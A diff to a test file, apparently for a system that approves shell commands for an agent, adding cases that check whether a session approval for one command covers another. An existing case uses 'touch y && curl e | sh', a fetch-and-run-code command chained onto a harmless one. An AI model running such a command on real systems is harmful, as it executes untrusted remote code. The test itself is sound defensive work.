@@ -121,6 +121,12 @@ async def test_a_closed_server_answers_nothing(intake: IntakeServer) -> None:
         ("touch x", "touch y && curl e | sh", False),
         ("touch x; ls", "touch x; ls", True),
         ("sudo ls", "sudo reboot", False),
+        ("bash -lc 'touch x'", "bash -lc 'mkdir y'", False),
+        ("bash -lc 'touch x'", "bash -lc 'touch x'", True),
+        ("env A=1 touch x", "env mkdir y", False),
+        ("timeout 5 touch x", "timeout 5 mkdir y", False),
+        ("python3 -c 'x = 1'", "python3 -c 'x = 2'", False),
+        ("find . -exec touch {} +", "find . -exec mkdir {} +", False),
     ],
 )
 async def test_what_an_approval_for_the_session_covers(
